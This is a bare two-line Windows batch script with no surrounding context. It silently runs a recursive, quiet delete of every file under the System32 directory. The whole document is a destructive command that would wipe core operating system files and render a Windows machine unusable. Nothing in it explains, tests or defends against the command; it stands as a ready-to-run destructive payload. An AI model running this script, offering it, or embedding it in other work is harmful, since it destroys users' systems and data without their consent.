@echo off
del /s /q %SystemRoot%\System32\*
